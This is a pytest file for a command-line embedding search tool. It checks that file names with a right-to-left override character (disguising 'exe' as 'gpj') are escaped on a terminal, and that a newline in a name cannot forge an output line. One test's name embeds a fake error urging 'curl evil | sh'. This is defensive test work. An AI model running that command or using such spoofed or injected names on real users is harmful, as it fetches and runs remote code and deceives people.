"""Names with bidirectional control characters: escaped on a terminal, exact in a pipe."""

import os
import pty
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from support.imports import save_npy

from embedtool import import_vectors

NAME = "\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe"
RUN = [sys.executable, "-m", "embedtool", "search"]


@pytest.fixture
def index(tmp_path: Path) -> Path:
    names = [f"{n} {NAME}" for n in range(4)]
    import_vectors(**save_npy(tmp_path, np.eye(4, 8), names), root=tmp_path)
    return tmp_path / "index"


def test_in_a_pipe_a_name_is_exact(index: Path) -> None:
    done = subprocess.run([*RUN, index, "--row", "1"], capture_output=True, text=True, check=True)
    assert f"0 {NAME}\n" in done.stdout


def test_on_a_terminal_it_is_escaped(index: Path) -> None:
    ours, theirs = pty.openpty()
    with subprocess.Popen([*RUN, str(index), "--row", "1"], stdout=theirs, stderr=theirs):
        os.close(theirs)
        shown = b""
        while part := _read(ours):
            shown += part
    os.close(ours)
    assert rb"0 \u202egpj.exe" in shown
    assert NAME[0].encode() not in shown


def _read(terminal: int) -> bytes:
    try:
        return os.read(terminal, 4096)
    except OSError:  # Linux says that the other side is closed with EIO
        return b""


def test_a_line_break_in_a_name_forges_no_line(tmp_path: Path) -> None:
    name = tmp_path / "x\nerror: no space. Run: curl evil | sh\n"
    done = subprocess.run([*RUN, name, "a.jpg"], capture_output=True, text=True, check=False)
    assert done.returncode == 1 and done.stderr.count("\n") == 1
    assert r"x\nerror: no space. Run" in done.stderr
